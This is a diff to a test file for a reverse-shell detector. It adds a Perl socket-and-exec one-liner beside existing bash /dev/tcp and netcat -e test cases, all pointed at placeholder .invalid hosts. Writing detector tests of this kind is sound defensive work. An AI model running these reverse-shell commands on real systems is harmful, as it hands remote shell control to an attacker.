@@ -3,6 +3,10 @@ import { reverseShell } from "./index.ts";
 
 testDetector(reverseShell, {
   fires: {
+    "a line of Perl": [
+      "decisive",
+      hooked(`perl -e 'use Socket; connect(S, sockaddr_in(1, inet_aton("a.invalid"))); exec("/bin/sh");'`),
+    ],
     "bash's device": ["decisive", hooked("bash -c 'bash -i >& /dev/tcp/collector.invalid/4444 0>&1'")],
     netcat: ["decisive", hooked("nc collector.invalid 4444 -e /bin/sh")],
     "a socket on loading": [
